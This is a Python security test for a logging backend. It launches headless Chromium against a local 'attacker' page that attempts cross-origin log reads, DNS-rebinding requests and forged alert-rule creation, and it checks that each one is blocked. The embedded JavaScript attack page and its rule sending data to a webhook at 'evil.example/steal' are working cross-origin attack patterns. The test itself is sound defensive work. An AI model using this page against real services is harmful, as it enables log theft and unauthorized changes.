"""A real browser (Debian's headless Chromium) on a page of another origin cannot read logs or create
alert rules, directly or through a rebinding-style Host, while OTLP ingest from a page still works."""

from __future__ import annotations

import json
import shutil
import subprocess
import threading
import time
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Server, api_get

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
# flags that work on a closed network: no sandbox (root in CI), no GPU, nothing phoning home
CHROMIUM_FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--host-resolver-rules=MAP rebind.test 127.0.0.1",
]

ATTACK_PAGE = """<!doctype html><html><body><script>
const B = "__BACKEND__", R = "__REBIND__";
const rule = {name: "evil", query: "", threshold: 1,
              destinations: [{kind: "webhook", url: "https://evil.example/steal"}]};
const otlp = {resourceLogs: [{resource: {attributes: [{key: "service.name", value: {stringValue: "browser"}}]},
  scopeLogs: [{logRecords: [{timeUnixNano: String(Date.now() * 1e6), body: {stringValue: "__MARKER__"}}]}]}]};
const results = {};
async function attempt(name, run) {
  try { results[name] = await run(); } catch (err) { results[name] = "blocked: " + err.name; }
}
(async () => {
  await attempt("read_logs", async () => {
    const r = await fetch(B + "/api/logs"); return "read " + r.status + " " + (await r.text()).slice(0, 300); });
  await attempt("read_logs_rebound", async () => {
    const r = await fetch(R + "/api/logs"); return "read " + r.status + " " + (await r.text()).slice(0, 300); });
  await attempt("create_rule", async () => {
    const r = await fetch(B + "/api/alerts", {method: "POST", headers: {"Content-Type": "application/json"},
                                              body: JSON.stringify(rule)});
    return "created " + r.status; });
  await attempt("create_rule_simple_request", async () => {
    await fetch(B + "/api/alerts", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"},
                                    body: JSON.stringify(rule)});
    return "sent (opaque)"; });
  await attempt("create_rule_rebound", async () => {
    await fetch(R + "/api/alerts", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"},
                                    body: JSON.stringify(rule)});
    return "sent (opaque)"; });
  await attempt("ingest", async () => {
    const r = await fetch(B + "/v1/logs", {method: "POST", headers: {"Content-Type": "application/json"},
                                           body: JSON.stringify(otlp)});
    return "ingest " + r.status; });
  await fetch("/report", {method: "POST", body: JSON.stringify(results)});
})();
</script></body></html>"""


class AttackerSite:
    """Another local origin: serves the attack page and receives its report."""

    def __init__(self, page: str) -> None:
        self.report: dict[str, Any] | None = None
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's naming)
                body = page.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self) -> None:  # noqa: N802
                site.report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        # "localhost" and another port: an origin that is not the backend's
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://localhost:{self.server.server_address[1]}/attack.html"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def chromium(tmp_path: Path) -> Iterator[list[str]]:
    if CHROMIUM is None:
        pytest.fail("Debian's chromium is needed for the browser test (.ci/run installs it with apt)")
    yield [CHROMIUM, *CHROMIUM_FLAGS, f"--user-data-dir={tmp_path / 'profile'}"]


def test_a_page_on_another_origin_cannot_use_the_api(tmp_path: Path, chromium: list[str]) -> None:
    server = Server(tmp_path / "store").start()
    marker = "browser-" + uuid.uuid4().hex[:8]
    port = server.url.rsplit(":", 1)[1]
    page = (
        ATTACK_PAGE.replace("__BACKEND__", server.url)
        .replace("__REBIND__", f"http://rebind.test:{port}")
        .replace("__MARKER__", marker)
    )
    site = AttackerSite(page)
    browser = subprocess.Popen([*chromium, site.url], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 90
        while site.report is None and time.monotonic() < deadline and browser.poll() is None:
            time.sleep(0.1)
        assert site.report is not None, "the page never reported"
        report = site.report
        # nothing readable: CORS refuses the answer (the page sees a failed fetch)
        assert report["read_logs"].startswith("blocked"), report
        assert report["read_logs_rebound"].startswith("blocked"), report
        assert report["create_rule"].startswith("blocked"), report
        # browser SDKs still send their logs
        assert report["ingest"] == "ingest 200", report
        assert api_get(server.url, "/api/alerts")["rules"] == []
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline and not api_get(server.url, "/api/logs", q=marker)["logs"]:
            time.sleep(0.1)
        assert api_get(server.url, "/api/logs", q=marker)["logs"][0]["service_name"] == "browser"
        # a rebinding-style name for this machine gets 421, even loaded directly in the browser
        browser.kill()  # one browser per profile
        browser.wait(timeout=30)
        load = [*chromium, "--dump-dom", f"http://rebind.test:{port}/api/logs"]
        dom = subprocess.run(load, capture_output=True, text=True, timeout=90).stdout
        assert "does not answer to the host" in dom and marker not in dom
    finally:
        browser.kill()
        browser.wait(timeout=30)
        site.server.shutdown()
        server.stop()
